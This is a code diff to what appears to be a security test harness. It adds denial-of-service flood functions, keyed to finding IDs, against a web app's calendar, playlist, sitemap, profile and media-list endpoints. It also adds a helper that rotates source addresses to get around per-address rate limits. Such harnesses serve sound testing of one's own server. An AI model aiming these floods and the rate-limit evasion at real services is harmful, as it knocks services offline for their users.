@@ -14,6 +14,8 @@ export interface Target {
   cookie: string;
   userId: string;
   mediaUrl: string;
+  /** An account whose lists are as long as they may be. */
+  largestId: string;
   /** A file to send. */
   file: string;
   /** Cookies of more free accounts. */
@@ -96,6 +98,11 @@ async function storm(callers: number, most: number, one: (index: number) => Prom
   );
   return counted(statuses);
 }
+
+/** One of so many addresses in turn. */
+const from = (n: number, addresses: number): RequestOptions => ({
+  localAddress: `${FROM.replace('127.0', '127.1')}${n % addresses}`,
+});
 
 const MB = 2 ** 20;
 
@@ -212,6 +219,22 @@ export const attacks: Record<string, (target: Target) => Promise<string | Got>> 
     storm(30, 600, (n) => ask(`${target.url}/api/browse/media?seed=${n}&page=${n % 2 === 0 ? 100 : 20}&size=100`, {})),
   'F17 lists': (target) => storm(30, 5000, () => ask(`${target.url}/api/browse/media?seed=7&size=100`, {})),
   'F19 pages of calls': (target) => storm(60, 5000, () => ask(`${target.url}/api/docs`, {})),
+  '28-F2 calendars of shows': (target) =>
+    storm(6, 5000, (n) => ask(`${target.url}/api/performances/user/${target.largestId}.ics?n=${n}`, {})),
+  '28-F2 calendars for five addresses': (target) =>
+    storm(30, 5000, (n) => ask(`${target.url}/api/performances/user/${target.largestId}.ics?n=${n}`, from(n, 5))),
+  '28-F3 playlists behind skipped ones': (target) =>
+    storm(12, 5000, (n) =>
+      ask(`${target.url}/api/playlists/user/${target.largestId}?size=100&page=5&n=${n}`, from(n, 2)),
+    ),
+  '28-F4 sitemaps for five addresses': (target) =>
+    storm(30, 5000, (n) => ask(`${target.url}/sitemap.xml?n=${n}`, from(n, 5))),
+  '28-F4 largest profiles for five addresses': (target) =>
+    storm(30, 5000, (n) =>
+      ask(`${target.url}${n % 2 === 0 ? '/api/users' : ''}/${target.largestId}?n=${n}`, from(n, 5)),
+    ),
+  '28 lists in orders of their own for five addresses': (target) =>
+    storm(30, 5000, (n) => ask(`${target.url}/api/browse/media?seed=${n}&size=100&page=10`, from(n, 5))),
   'F20 rows of visitors': (target) =>
     storm(16, 8000, () => ask(target.url + target.mediaUrl, { headers: { range: 'bytes=0-0' } })),
 };
